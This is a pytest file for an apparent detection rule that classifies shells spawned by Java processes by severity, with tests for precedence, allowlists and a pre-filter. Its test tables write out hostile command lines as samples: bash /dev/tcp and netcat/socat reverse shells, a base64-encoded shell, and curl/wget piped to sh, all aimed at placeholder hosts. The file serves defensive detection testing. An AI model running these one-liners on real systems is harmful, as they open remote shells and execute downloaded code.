"""shell-spawned-by-java: the five cases, their precedence, the lists (as loaded), the allowlist and the pre-filter."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellwatch.core.byte_screen import ByteScreen
from shellwatch.core.classify import CASE_SEVERITY, CASES, Classification, classify, evaluate, explain_silence
from shellwatch.ecs.events import ProcessEvent
from shellwatch.formats.event_codec import Decoded, decode_json_event
from shellwatch.rules.loader import shipped_rule_path
from shellwatch.rules.model import RISK_SCORES
from shellwatch.rules.shell_rule import ALLOWLIST_FILE, SHELL_RULE_FILE, ShellRule, load_shell_rule
from shellwatch.samples.ecs_factory import JAVA, execution
from tests.unit.builders import MISSING, encode_with_escapes, exec_doc, proc

RULE = load_shell_rule()
KB, CF, UN, SU, LO = CASES
CORPUS = Path(__file__).parent / "shell_corpus.ndjson"
JENKINS_ARGS = ["/usr/bin/java", "-jar", "/usr/share/java/jenkins.war"]


def _base(path: str) -> str:
    return path.rsplit("/", 1)[-1]


def child(
    args: Sequence[str],
    *,
    name: str | None = None,
    parent_exe: str = JAVA,
    parent_name: Any = None,
    parent_args: Any = None,
    **fields: Any,
) -> ProcessEvent:
    parent_args = parent_args if parent_args is not None else [parent_exe, "-jar", "/opt/app/app.jar"]
    values: dict[str, Any] = {
        "process__args": list(args),
        "process__name": name or _base(args[0]),
        "process__executable": args[0] if args[0].startswith("/") else f"/usr/bin/{args[0]}",
        "process__command_line": " ".join(args),
        "process__parent__executable": parent_exe,
        "process__parent__name": parent_name if parent_name is not None else _base(parent_exe),
        "process__parent__args": parent_args,
        "process__parent__command_line": " ".join(parent_args),
    }
    doc = exec_doc(**{**values, **fields})
    return proc(doc)


def case_of(event: ProcessEvent, rule: ShellRule = RULE) -> str | None:
    found = classify(rule, event)
    return found.case if found is not None else None


CASE_TABLE = [
    # known bad
    (["/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"], KB),
    (["bash", "-c", "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ==}|{base64,-d}|{bash,-i}"], KB),
    (["/usr/bin/nc", "-nve", "/bin/sh", "1.2.3.4", "4444"], KB),
    (["/bin/sh", "-c", "exec /usr/bin/nc 1.2.3.4 4444 -e /bin/sh"], KB),
    (["/bin/sh", "-c", "sh -c \"bash -c 'ncat --sh-exec /bin/sh 1.2.3.4 1'\""], KB),
    (["/bin/sh", "-c", "id; curl -s http://x/a.sh | sh"], KB),
    (["/bin/sh", "-c", "/bin/bash -c 'wget -qO- http://x | /usr/bin/sudo -u root /bin/bash'"], KB),
    (["/bin/sh", "-c", "{curl,-s,http://x}|{sh,-s}"], KB),
    (["/usr/bin/perl", "-MIO::Socket::INET", "-e", "$c=new IO::Socket::INET('h:1')"], KB),
    (["/usr/bin/env", "-S", "bash -i"], KB),
    # Confluence is covered below; unusual
    (["/bin/sh", "-c", "curl http://x"], UN),
    (["/bin/sh", "-c", "/usr/bin/wget -q http://x -O /tmp/x"], UN),
    (["/bin/sh", "-c", "echo `whoami`"], UN),
    (["/usr/bin/whoami"], UN),
    (["curl", "http://169.254.169.254/"], UN),
    # suspicious
    (["/bin/sh", "-c", "id"], SU),
    (["/bin/sh", "-c", "uname -a && cat /etc/passwd"], SU),
    (["/bin/sh", "-lc", "/bin/ls /"], SU),
    (["/usr/bin/id", "-u"], SU),
    # low
    (["/bin/sh", "-c", "echo ok"], LO),
    (["/bin/bash", "/opt/app/hook.sh"], LO),
    (["/bin/sh"], LO),
    (["/usr/bin/lwp-download", "http://x/f"], LO),
    (["/bin/sh", "-c", "echo 'unbalanced"], LO),
]


@pytest.mark.parametrize(("args", "expected"), CASE_TABLE, ids=[" ".join(a)[:60] for a, _ in CASE_TABLE])
def test_cases(args: list[str], expected: str) -> None:
    assert case_of(child(args)) == expected


@pytest.mark.parametrize("case", CASES)
def test_severity_and_risk_follow_the_case(case: str) -> None:
    examples: dict[str, ProcessEvent] = {
        KB: child(["/bin/bash", "-i"]),
        CF: child(["/bin/sh", "-c", "id"], process__env_vars=["CONFLUENCE_HOME=/var/c"]),
        UN: child(["/usr/bin/whoami"]),
        SU: child(["/usr/bin/id"]),
        LO: child(["/bin/sh", "-c", "true"]),
    }
    found = classify(RULE, examples[case])
    assert found is not None and found.case == case
    assert found.severity == CASE_SEVERITY[case] and found.risk_score == RISK_SCORES[found.severity]
    assert found.explanation[0].startswith("parent executable") and found.commands


PRECEDENCE = [
    ("known-bad over Confluence", ["/bin/bash", "-i"], {"process__env_vars": ["CONFLUENCE_HOME=/c"]}, KB),
    ("Confluence over unusual", ["/bin/sh", "-c", "curl x"], {"process__env_vars": ["CONFLUENCE_HOME=/c"]}, CF),
    ("Confluence over low", ["/bin/sh", "-c", "true"], {"process__env_vars": ["CONFLUENCE_HOME=/c"]}, CF),
    ("unusual over suspicious", ["/bin/sh", "-c", "id; whoami"], {}, UN),
    ("suspicious over low", ["/bin/sh", "-c", "echo a; id"], {}, SU),
    ("highest wins whatever the order", ["/bin/sh", "-c", "curl x; id; nc -e /bin/sh h 1"], {}, KB),
    ("nested command counts", ["/bin/sh", "-c", "bash -c 'id'"], {}, SU),
]


@pytest.mark.parametrize(("what", "args", "fields", "expected"), PRECEDENCE, ids=[p[0] for p in PRECEDENCE])
def test_precedence(what: str, args: list[str], fields: dict[str, Any], expected: str) -> None:
    assert case_of(child(args, **fields)) == expected


# One example per shipped idiom (a test below checks every loaded idiom has one).
IDIOM_EXAMPLES = {
    "dev-tcp": ["/bin/sh", "-c", "exec 3<>/dev/tcp/10.0.0.1/80"],
    "gawk-inet": ["/usr/bin/gawk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"}'],
    "interactive-shell": ["/bin/sh", "-c", "/bin/bash -li"],
    "netcat-exec": ["/bin/nc.traditional", "-lvp", "4444", "-e", "/bin/sh"],
    "socat-exec": ["/usr/bin/socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh"],
    "socat-pty": ["/usr/bin/socat", "tcp-connect:10.0.0.1:4444", "file:/dev/tty,raw,echo=0,PTY"],
    "python-socket": ["/usr/bin/python3.11", "-c", "import pty;pty.spawn('/bin/sh')"],
    "perl-socket": ["/bin/sh", "-c", "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\")'"],
    "ruby-socket": ["/usr/bin/ruby", "-rsocket", "-e", "exit if fork"],
    "php-fsockopen": ["/usr/bin/php8.2", "-r", "$s=fsockopen('10.0.0.1',4242);"],
    "mkfifo-tmp": ["/bin/sh", "-c", "mkfifo -m 600 /dev/shm/p"],
    "base64-to-shell": ["/bin/sh", "-c", "echo aWQ= | base64 -di | sh"],
    "download-to-shell": ["/bin/sh", "-c", "lwp-download http://x/s - | timeout 9 bash"],
    "openssl-to-shell": [
        "/bin/sh",
        "-c",
        "openssl s_client -quiet -connect h:443 | sh | openssl s_client -connect h:8443",
    ],
    "telnet-to-shell": ["/bin/sh", "-c", "telnet h 23 | /bin/bash | telnet h 24"],
}
NEAR_MISSES = [
    (["/usr/bin/nc", "-z", "-w", "3", "db", "5432"], None),
    (["/bin/sh", "-c", "nc -lp 4444 > /tmp/out"], LO),
    (["/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:app:80"], None),
    (["/usr/bin/python3", "-c", "print(1)"], None),
    (["/usr/bin/python3", "/opt/app/socket_server.py"], None),
    (["/bin/sh", "-c", "perl -e 'print 1'"], LO),
    (["/bin/sh", "-c", "mkfifo ./pipe"], LO),
    (["/bin/sh", "-c", "base64 /etc/hostname | bash"], LO),
    (["/bin/sh", "-c", "echo aWQ= | base64 -d > /tmp/x"], LO),
    (["/bin/sh", "-c", "curl -o /tmp/s http://x; sh /tmp/s"], UN),
    (["/bin/bash", "-c", "grep -i x /etc/hosts"], LO),
    (["/bin/bash", "-c", "echo", "-i"], LO),  # -i after the command string is $0, not an option
    (["/bin/sh", "-c", "echo '/dev/tcp/' is blocked"], KB),  # substrings are substrings, quoted or not
]


def test_every_idiom_has_an_example() -> None:
    assert set(IDIOM_EXAMPLES) == {idiom.name for idiom in RULE.idioms}


@pytest.mark.parametrize("idiom", [idiom.name for idiom in RULE.idioms])
def test_each_idiom_is_known_bad(idiom: str) -> None:
    found = classify(RULE, child(IDIOM_EXAMPLES[idiom]))
    assert found is not None and found.case == KB, found
    assert any(f"idiom {idiom!r}" in line for line in found.explanation), found.explanation


@pytest.mark.parametrize(("args", "expected"), NEAR_MISSES, ids=[" ".join(a)[:60] for a, _ in NEAR_MISSES])
def test_idiom_near_misses(args: list[str], expected: str | None) -> None:
    assert case_of(child(args)) == expected


WRAPPER_EXAMPLES = {
    "exec": ["/bin/sh", "-c", "exec -a x curl http://x"],
    "env": ["/usr/bin/env", "-i", "A=1", "-u", "B", "curl", "http://x"],
    "nohup": ["/usr/bin/nohup", "curl", "http://x"],
    "timeout": ["/usr/bin/timeout", "-s", "KILL", "10", "curl", "http://x"],
    "busybox": ["/bin/busybox", "wget", "http://x"],
    "sudo": ["/usr/bin/sudo", "-n", "-u", "app", "--", "curl", "http://x"],
    "nice": ["/usr/bin/nice", "-n", "19", "curl", "http://x"],
    "setsid": ["/usr/bin/setsid", "-f", "curl", "http://x"],
    "stdbuf": ["/usr/bin/stdbuf", "-oL", "curl", "http://x"],
}


def test_every_wrapper_has_an_example() -> None:
    assert set(WRAPPER_EXAMPLES) == set(RULE.syntax.wrappers)


@pytest.mark.parametrize("wrapper", sorted(RULE.syntax.wrappers))
def test_wrappers_are_looked_through(wrapper: str) -> None:
    found = classify(RULE, child(WRAPPER_EXAMPLES[wrapper]))
    assert found is not None and found.case == UN, found
    assert any(c.startswith(("curl", "wget")) for c in found.commands)


@pytest.mark.parametrize("shell", RULE.shells)
def test_each_shell_qualifies_by_name_and_by_executable(shell: str) -> None:
    for path in (f"/bin/{shell}", f"/usr/bin/{shell}"):
        assert case_of(child([path, "-c", "true"])) == LO
    # process.name absent and argv[0] relative: the executable's basename decides
    event = proc(exec_doc(process__args=["x"], process__name=MISSING, process__executable=f"/usr/bin/{shell}"))
    assert case_of(event) == LO


@pytest.mark.parametrize("shell", [s for s in RULE.shells if s != "busybox"])
@pytest.mark.parametrize("recon", RULE.recon_commands)
def test_recon_through_each_shell(shell: str, recon: str) -> None:
    assert case_of(child([f"/bin/{shell}", "-c", f"/usr/bin/{recon} x"])) == SU


@pytest.mark.parametrize("recon", RULE.recon_commands)
def test_recon_child_directly(recon: str) -> None:
    assert case_of(child([f"/usr/bin/{recon}"])) == SU


@pytest.mark.parametrize("program", RULE.unusual_commands)
def test_unusual_directly_and_through_a_shell(program: str) -> None:
    assert case_of(child([f"/usr/bin/{program}", "x"])) == UN
    assert case_of(child(["/bin/sh", "-c", f"{program} x"])) == UN


@pytest.mark.parametrize("program", RULE.http_utilities)
def test_http_utilities_qualify(program: str) -> None:
    expected = UN if program in RULE.unusual_commands else LO
    assert case_of(child([f"/usr/bin/{program}", "http://x"])) == expected


@pytest.mark.parametrize("name", RULE.java_parent_names)
def test_java_by_parent_name_is_never_allowlisted(name: str) -> None:
    exe = f"/tmp/.cache/{name}"
    assert case_of(child(["/bin/sh", "-c", "ls"], parent_exe=exe, parent_args=[exe, "-jar", "/x/jenkins.war"])) == SU
    # the name alone (no executable) is enough too
    event = child(["/bin/sh", "-c", "ls"], parent_exe=exe, parent_name=name, process__parent__executable=MISSING)
    assert case_of(event) == SU


def _instance(pattern: str) -> str:
    return pattern.replace("*", "x").replace("?", "x")


@pytest.mark.parametrize("pattern", RULE.java_executables.patterns)
def test_java_by_executable_and_allowlistable(pattern: str) -> None:
    exe = _instance(pattern).upper()  # ':' ignores case
    assert case_of(child(["/bin/sh", "-c", "id"], parent_exe=exe, parent_name="launcher")) == SU
    event = child(["/bin/sh", "-c", "id"], parent_exe=exe, parent_name="launcher", parent_args=JENKINS_ARGS)
    assert case_of(event) is None


NOT_APPLICABLE = [
    ("windows", {"host__os__type": "windows"}),
    ("macos", {"host__os__type": "macos"}),
    ("Linux is not linux", {"host__os__type": "Linux"}),
    ("fork", {"event__action": "fork"}),
    ("end", {"event__action": "end"}),
    ("no action", {"event__action": MISSING}),
    ("non-Java parent", {"process__parent__name": "node", "process__parent__executable": "/usr/bin/node"}),
    ("no parent", {"process__parent": MISSING}),
    ("javac outside a Java home", {"process__parent__name": "javac", "process__parent__executable": "/usr/bin/javac"}),
]


@pytest.mark.parametrize(("what", "fields"), NOT_APPLICABLE, ids=[n[0] for n in NOT_APPLICABLE])
def test_not_applicable(what: str, fields: dict[str, Any]) -> None:
    assert case_of(proc(exec_doc(process__args=["/bin/bash", "-i"], **fields))) is None


def test_os_absent_and_exec_like_actions_apply() -> None:
    assert case_of(proc(exec_doc(host__os__type=MISSING))) == SU
    assert case_of(proc(exec_doc(event__action="executed"))) == SU
    assert case_of(proc(exec_doc(event__action=["start", "exec"]))) == SU


def test_children_that_do_not_qualify() -> None:
    for args in (["/usr/bin/git", "status"], ["/usr/lib/jvm/x/bin/java", "-version"], ["/usr/bin/python3", "x.py"]):
        assert case_of(child(args)) is None


CONFLUENCE = [
    ("env var name", {"process__env_vars": ["JAVA_HOME=/j", "CONFLUENCE_HOME=/var/atlassian"]}),
    ("env var name only", {"process__env_vars": ["CONFLUENCEVAR"]}),
    ("parent executable", {"process__parent__executable": "/opt/atlassian/confluence/jre/bin/java"}),
    ("parent args path", {"process__parent__args": ["java", "-Dcatalina.base=/opt/atlassian/confluence/x"]}),
    ("parent args name", {"process__parent__args": ["java", "com.atlassian.confluence.Launcher"]}),
    ("parent command line", {"process__parent__command_line": "java -cp /opt/atlassian/confluence/lib/x.jar"}),
]


@pytest.mark.parametrize(("what", "fields"), CONFLUENCE, ids=[c[0] for c in CONFLUENCE])
def test_confluence(what: str, fields: dict[str, Any]) -> None:
    event = proc(exec_doc(process__args=["/bin/sh", "-c", "whoami"], **fields))
    assert case_of(event) == CF
    with_allowlisted_args = dict(
        fields, process__parent__args=[*JENKINS_ARGS, *fields.get("process__parent__args", [])]
    )
    assert case_of(proc(exec_doc(process__args=["/bin/sh", "-c", "echo"], **with_allowlisted_args))) == CF


def test_confluence_needs_the_name_not_the_value() -> None:
    event = proc(exec_doc(process__env_vars=["JAVA_OPTS=-Dx=CONFLUENCE", "confluence_home=/x"]))
    assert case_of(event) == SU


@pytest.mark.parametrize("entry", RULE.allowlist, ids=[e.name for e in RULE.allowlist])
def test_allowlist_silences_only_low_and_medium(entry: Any) -> None:
    parent_args = ["/usr/bin/java", "-Xmx1g", _instance(entry.parent_args[0])]
    outcomes = {
        LO: ["/bin/sh", "-c", "echo build"],
        SU: ["/bin/sh", "-c", "uname -a"],
        UN: ["/bin/sh", "-c", "curl http://x"],
        KB: ["/bin/sh", "-c", "bash -i >& /dev/tcp/h/1 0>&1"],
    }
    for case, args in outcomes.items():
        event = child(args, parent_exe="/usr/bin/java", parent_args=parent_args)
        assert case_of(event) == (None if case in (LO, SU) else case)
        silence = explain_silence(RULE, event)
        assert (silence is not None and silence.startswith(entry.name)) == (case in (LO, SU))
    confluence = child(outcomes[LO], parent_exe="/usr/bin/java", parent_args=[*parent_args, "com.atlassian.confluence"])
    assert case_of(confluence) == CF


def test_allowlist_is_case_sensitive_and_per_element() -> None:
    args = ["/bin/sh", "-c", "id"]
    assert (
        case_of(child(args, parent_exe="/usr/bin/java", parent_args=["/usr/bin/java", "-jar", "/x/JENKINS.war"])) == SU
    )
    joined = ["/usr/bin/java -jar /usr/share/java/jenkins.war.bak"]
    assert case_of(child(args, parent_exe="/usr/bin/java", parent_args=joined)) == SU


def test_host_scoped_allowlist_entries(tmp_path: Path) -> None:
    allowlist = tmp_path / "allow.toml"
    allowlist.write_text(
        '[[allow]]\nname = "ci"\nreason = "CI agents"\nparent_args = ["/opt/ci/*.jar"]\n'
        'host_ids = ["host-ci"]\nhost_names = ["ci-02"]\n'
    )
    rule = load_shell_rule(allowlist_path=allowlist)
    parent: dict[str, Any] = {
        "parent_exe": "/usr/bin/java",
        "parent_args": ["/usr/bin/java", "-jar", "/opt/ci/agent.jar"],
    }
    assert case_of(proc(exec_doc(host="host-ci")), rule) == SU  # not the CI jar
    on_ci = child(["/bin/sh", "-c", "id"], host__id="host-ci", **parent)
    by_name = child(["/bin/sh", "-c", "id"], host__id="other", host__name="ci-02", **parent)
    elsewhere = child(["/bin/sh", "-c", "id"], host__id="host-web", **parent)
    assert (case_of(on_ci, rule), case_of(by_name, rule), case_of(elsewhere, rule)) == (None, None, SU)
    assert explain_silence(rule, on_ci) == "ci (parent argument '/opt/ci/agent.jar'): CI agents"
    assert explain_silence(rule, elsewhere) is None


def test_operator_added_lists_take_effect(tmp_path: Path) -> None:
    text = shipped_rule_path(SHELL_RULE_FILE).read_text()
    path = tmp_path / "rule.toml"
    path.write_text(
        text.replace('"jspawnhelper"]', '"jspawnhelper", "zulu-jvm"]')
        .replace('"busybox"]', '"busybox", "xonsh"]')
        .replace('"printenv"]', '"printenv", "env"]')
    )
    rule = load_shell_rule(path)
    assert case_of(child(["/usr/bin/xonsh", "-c", "true"]), rule) == LO
    assert case_of(child(["/usr/bin/xonsh", "-i"]), rule) == KB  # programs_from = "shells" follows the list
    assert case_of(child(["/bin/sh", "-c", "true"], parent_exe="/opt/z/zulu-jvm"), rule) == LO
    assert case_of(child(["/bin/sh", "-c", "true"], parent_exe="/opt/z/zulu-jvm")) is None
    assert case_of(child(["/bin/sh", "-c", "env"]), rule) == SU


def test_command_line_is_used_when_args_are_missing() -> None:
    event = proc(exec_doc(process__args=MISSING, process__command_line="/bin/sh -c curl http://x | sh"))
    assert case_of(event) == KB


def test_explanation_names_the_list_and_the_command() -> None:
    found = classify(RULE, child(["/bin/sh", "-c", "cd /tmp && /usr/bin/curl -s http://x"]))
    assert found == Classification(
        UN,
        "high",
        73,
        (
            "parent executable '/usr/lib/jvm/java-17-openjdk-amd64/bin/java' matches java_executables '/usr/lib/jvm/*'",
            "child 'sh' is in shells",
            "'curl' is in unusual_commands: curl -s http://x",
        ),
        ("sh -c 'cd /tmp && /usr/bin/curl -s http://x'", "cd /tmp", "curl -s http://x"),
    )
    verdict = evaluate(RULE, child(["/bin/sh", "-c", "id"], parent_exe="/usr/bin/java", parent_args=JENKINS_ARGS))
    assert verdict is not None and verdict.allowlisted_by is not None and verdict.classification.case == SU


def _corpus() -> list[tuple[int, bytes, Any]]:
    lines = CORPUS.read_bytes().splitlines()
    return [(n, line, json.loads(line)["_expected_case"]) for n, line in enumerate(lines, start=1)]


def test_corpus_is_large_and_covers_every_case() -> None:
    expected = [case for _, _, case in _corpus()]
    assert len(expected) >= 80
    assert set(expected) == {*CASES, None}


@pytest.mark.parametrize(("line", "raw", "expected"), _corpus(), ids=[f"line{n}" for n, _, _ in _corpus()])
def test_corpus(line: int, raw: bytes, expected: str | None) -> None:
    decoded = decode_json_event(raw)  # the _expected_case field rides along and must be ignored
    assert isinstance(decoded, Decoded)
    (event,) = decoded.events
    assert isinstance(event, ProcessEvent)
    assert case_of(event) == expected
    if expected is not None:  # and the pre-filter keeps it, the label aside
        document = json.loads(raw)
        del document["_expected_case"]
        assert ByteScreen.from_patterns(RULE.prefilter_patterns()).accepts(json.dumps(document).encode())


# --- the pre-filter never drops an exec this rule classifies --------------------------------------------------


@pytest.fixture(scope="module")
def extended_rule(tmp_path_factory: pytest.TempPathFactory) -> ShellRule:
    directory = tmp_path_factory.mktemp("extended")
    rule, allowlist = directory / "rule.toml", directory / "allow.toml"
    rule.write_text(
        shipped_rule_path(SHELL_RULE_FILE)
        .read_text()
        .replace('"jspawnhelper"]', '"jspawnhelper", "zulu-jvm"]')
        .replace('"busybox"]', '"busybox", "xonsh"]')
    )
    allowlist.write_text(shipped_rule_path(ALLOWLIST_FILE).read_text())
    return load_shell_rule(rule, allowlist)


PARENT_NAMES = ["java", "jspawnhelper", "zulu-jvm", "JAVA", "node", "javaw", ""]
PARENT_EXES = [
    "/usr/bin/java",
    "/bin/java",
    "/usr/lib/jvm/",
    "/USR/LIB/JVM/x/lib/jspawnhelper",
    "/usr/java/\u00e9",
    "/tmp/java",
    "/opt/z/zulu-jvm",
    "/usr/sbin/sshd",
    "/opt/app/run",
]
CHILDREN = [
    ["/bin/sh", "-c", "id"],
    ["bash", "-i"],
    ["/usr/bin/xonsh", "-c", "true"],
    ["/usr/bin/curl", "http://h"],
    ["/usr/bin/nc", "-e", "/bin/sh", "h", "1"],
    ["/usr/bin/python3", "app.py"],
    ["/bin/sh", "-c", "{echo,aWQ=}|{base64,-d}|{bash,-i}"],
]


@st.composite
def exec_documents(draw: st.DrawFn) -> dict[str, Any]:
    args = draw(st.sampled_from(CHILDREN))
    doc = execution(
        ts_ms=1_700_000_000_000,
        host_id="h-1",
        pid=7,
        parent_pid=3,
        event_id="e-1",
        name=_base(args[0]),
        args=list(args),
        parent_executable=draw(st.sampled_from(PARENT_EXES)),
        parent_args=["/opt/app/launcher", "--serve"],  # nothing Java-like anywhere but the drawn fields
        action=draw(st.sampled_from(["exec", "fork", "executed"])),
        os_type=draw(st.sampled_from(["linux", "windows"])),
    )
    parent = doc["process"]["parent"]
    name = draw(st.sampled_from([*PARENT_NAMES, None]))
    if name is None:
        del parent["name"]
    else:
        parent["name"] = name
    if draw(st.booleans()):
        del parent["executable"]
    if draw(st.booleans()):
        del doc["host"]["os"]["type"]
    return doc


@settings(max_examples=400, deadline=None)
@given(document=exec_documents(), modes=st.lists(st.integers(0, 2), min_size=1, max_size=4))
def test_prefilter_keeps_every_classified_exec(
    extended_rule: ShellRule, document: dict[str, Any], modes: list[int]
) -> None:
    raw = encode_with_escapes(document, modes).encode()
    decoded = decode_json_event(raw)
    assert isinstance(decoded, Decoded)
    (event,) = decoded.events
    assert isinstance(event, ProcessEvent)
    for rule in (RULE, extended_rule):
        if evaluate(rule, event) is not None:
            assert ByteScreen.from_patterns(rule.prefilter_patterns()).accepts(raw), (raw, rule.prefilter_patterns())
